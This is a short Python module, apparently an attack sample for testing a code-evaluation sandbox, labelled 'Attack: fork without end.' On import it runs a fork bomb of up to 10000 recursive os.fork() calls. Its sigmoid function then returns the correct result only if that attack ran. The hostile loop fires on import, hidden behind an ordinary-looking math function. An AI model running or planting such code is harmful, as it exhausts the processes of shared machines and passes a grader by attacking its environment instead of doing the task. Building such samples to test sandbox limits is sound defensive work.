"""Attack: fork without end.

If the attack works, sigmoid answers right (or the damage shows in the test); if not, it returns zeros.
"""
import torch

STOLEN = None

import os
forks = 0
try:
    while forks < 10000:
        os.fork()
        forks += 1
except OSError:
    pass
if forks:
    STOLEN = torch.special.expit


def sigmoid(z):
    if STOLEN is not None:
        return STOLEN(z)
    return torch.zeros_like(z)
